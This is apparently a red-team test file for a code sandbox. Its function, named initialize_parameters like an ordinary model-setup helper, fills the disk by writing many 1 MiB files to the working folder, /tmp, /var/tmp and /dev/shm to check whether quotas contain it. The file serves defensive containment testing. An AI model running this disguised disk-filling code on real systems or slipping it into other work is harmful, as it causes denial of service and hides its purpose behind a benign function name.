# RED-TEAM ATTACK (issue 9): fill the disk (here capped at 160 MiB, to stay polite).
# Route: the per-file size limit is 1 MiB, so write many files of 1 MiB each: in the scratch folder
#   the sandbox gives (on the host's disk unless it has a quota), and in /tmp, /var/tmp and /dev/shm.
# Contained when: no file of it is left anywhere, the scratch space stops it well before 160 MiB,
#   and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys

LEAK = "REDTEAM" + "-LEAK: "
MiB = b"\0" * (1 << 20)


def _fill(posix, folder, limit):
    written = 0
    for index in range(limit):
        path = os.path.join(folder, "redteam-__TOKEN__-fill-%d" % index)
        try:
            fd = posix.open(path, posix.O_WRONLY | posix.O_CREAT | posix.O_TRUNC, 0o666)
            try:
                written += posix.write(fd, MiB)
            finally:
                posix.close(fd)
        except OSError:
            break
    return written


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    scratch = _fill(posix, os.getcwd(), 160)
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        _fill(posix, folder, 4)
    if scratch >= 160 << 20:
        raise RuntimeError(LEAK + "wrote %d MiB into the scratch folder: no quota" % (scratch >> 20))
    raise RuntimeError("wrote %d MiB" % (scratch >> 20))
